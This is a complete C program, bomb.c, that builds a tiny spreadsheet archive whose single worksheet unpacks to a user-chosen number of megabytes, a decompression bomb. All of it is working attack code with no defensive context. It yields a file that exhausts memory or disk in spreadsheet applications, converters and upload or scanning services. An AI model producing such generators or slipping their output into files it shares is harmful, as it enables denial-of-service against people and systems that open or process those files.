/* bomb.c - bomb FILE MB: a workbook of a few kilobytes whose sheet unpacks to so many megabytes. */

#include <minizip/zip.h>
#include <stdlib.h>
#include <string.h>

#define HEAD  "xmlns=\"http://schemas.openxmlformats.org/"
#define TYPES "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

static void add(zipFile zip, const char *name, const char *text, long mb)
{
    static char rows[1 << 20];

    zipOpenNewFileInZip64(zip, name, NULL, NULL, 0, NULL, 0, NULL, Z_DEFLATED, 9, 1);
    zipWriteInFileInZip(zip, text, (unsigned)strlen(text));
    memset(rows, ' ', sizeof rows);
    while (mb-- > 0)
        zipWriteInFileInZip(zip, rows, sizeof rows);
    zipCloseFileInZip(zip);
}

int main(int argc, char **argv)
{
    zipFile zip = argc == 3 ? zipOpen64(argv[1], APPEND_STATUS_CREATE) : NULL;

    if (!zip)
        return 2;
    add(zip, "_rels/.rels",
        "<Relationships " HEAD "package/2006/relationships\"><Relationship Id=\"a\" Type=\"" TYPES
        "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>",
        0);
    add(zip, "xl/workbook.xml",
        "<workbook " HEAD "spreadsheetml/2006/main\" xmlns:r=\"" TYPES
        "\"><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"s1\"/></sheets></workbook>",
        0);
    add(zip, "xl/_rels/workbook.xml.rels",
        "<Relationships " HEAD "package/2006/relationships\"><Relationship Id=\"s1\" Type=\"" TYPES
        "/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>",
        0);
    add(zip, "xl/worksheets/sheet1.xml", "<worksheet " HEAD "spreadsheetml/2006/main\"><sheetData>",
        strtol(argv[2], NULL, 10));
    return zipClose(zip, NULL) != ZIP_OK;
}
